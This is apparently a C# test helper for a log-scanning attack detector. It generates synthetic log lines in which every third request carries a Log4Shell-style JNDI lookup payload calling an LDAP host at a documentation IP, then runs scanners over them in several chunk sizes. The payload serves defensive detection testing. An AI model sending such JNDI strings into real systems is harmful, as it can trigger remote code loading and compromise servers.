using OpsModule.Connections.Platforms.Contract;
using OpsModule.Engine.Areas.Attacks;
using OpsModule.Engine.Areas.Attacks.Reading;
using OpsModule.Foundations.Reporting;

namespace OpsModule.Engine.Tests.Attacks;

/// <summary>What the tests of sources have in common: one attack that is surely one, and runs to the end.</summary>
internal static class Hunting
{
    public const string Attack = "${jndi:ldap://203.0.113.9/a}";
    public static readonly AttackQuery Query = new();

    public static string Line(int number) => number % 3 == 0 ? $"2026-11-21T03:16:00Z request {number} {Attack}" : $"2026-11-21T03:16:00Z request {number} served";

    public static string Lines(int from, int count) => string.Concat(Enumerable.Range(from, count).Select(i => Line(i) + "\n"));

    public static readonly AttackScanner Usual = new(Query, TimeProvider.System);

    /// <summary>In chunks that are small enough for a line to be too long.</summary>
    public static readonly AttackScanner Tiny = new(Query, TimeProvider.System) { Sizes = new ChunkSizes(256, 128, 64) };

    /// <summary>In chunks that are small enough for a short file to have many.</summary>
    public static readonly AttackScanner Small = new(Query, TimeProvider.System) { Sizes = new ChunkSizes(4096, 1024, 64) };

    public static async Task<List<AttackMatch>> AllAsync(IAsyncEnumerable<IReadOnlyList<AttackMatch>> batches)
    {
        var all = new List<AttackMatch>();
        await foreach (IReadOnlyList<AttackMatch> batch in batches) all.AddRange(batch);
        return all;
    }

    public static Task<List<AttackMatch>> RunAsync(AttackSources sources, IOpsReporter? reporter = null, IServicePlatform? platform = null, AttackQuery? query = null) =>
        AllAsync(new AttackHunt(query ?? Query, sources, platform, reporter ?? SilentReporter.Instance, TimeProvider.System) { Scanner = query is null ? Usual : null }.RunAsync(CancellationToken.None));

    /// <summary>The numbers of the requests that were found.</summary>
    public static IEnumerable<int> Numbers(this IEnumerable<AttackMatch> matches) => matches.Select(m => int.Parse(m.Raw.Split(' ')[2]));

    public static IEnumerable<int> Attacks(int from, int count) => Enumerable.Range(from, count).Where(i => i % 3 == 0);
}
